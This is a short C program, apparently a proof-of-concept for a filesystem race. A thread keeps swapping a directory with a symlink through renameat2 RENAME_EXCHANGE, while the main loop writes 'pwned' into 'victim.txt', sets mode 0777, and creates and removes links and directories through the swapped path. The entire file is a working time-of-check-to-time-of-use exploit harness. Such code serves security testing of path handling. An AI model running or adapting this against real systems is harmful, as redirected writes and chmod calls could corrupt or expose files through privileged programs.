// A folder and a link change places all the time, while something is done behind that name: swap FOLDER LINK SECONDS
#define _GNU_SOURCE
#include <fcntl.h>
#include <pthread.h>
#include <stdio.h>
#include <stdlib.h>
#include <sys/stat.h>
#include <time.h>
#include <unistd.h>

static const char *folder, *other;
static volatile int over;

static void *swap(void *unused) {
    while (!over) renameat2(AT_FDCWD, folder, AT_FDCWD, other, RENAME_EXCHANGE);
    return unused;
}

int main(int count, char **args) {
    if (count != 4) return 2;
    folder = args[1], other = args[2];
    pthread_t thread;
    pthread_create(&thread, NULL, swap, NULL);
    time_t end = time(NULL) + atoi(args[3]);
    char file[4096], made[4096];
    snprintf(file, sizeof file, "%s/victim.txt", folder);
    snprintf(made, sizeof made, "%s/pwned", folder);
    long tried = 0;
    while (time(NULL) < end) {
        int fd = open(file, O_WRONLY | O_CREAT, 0644);
        if (fd >= 0 && write(fd, "pwned", 5) < 0) perror("write");
        close(fd);
        mkdir(made, 0755);
        rmdir(made);
        chmod(file, 0777);
        link(file, "second");
        unlink("second");
        symlink("x", made);
        unlink(made);
        tried++;
    }
    over = 1;
    pthread_join(thread, NULL);
    printf("tried %ld times\n", tried);
}
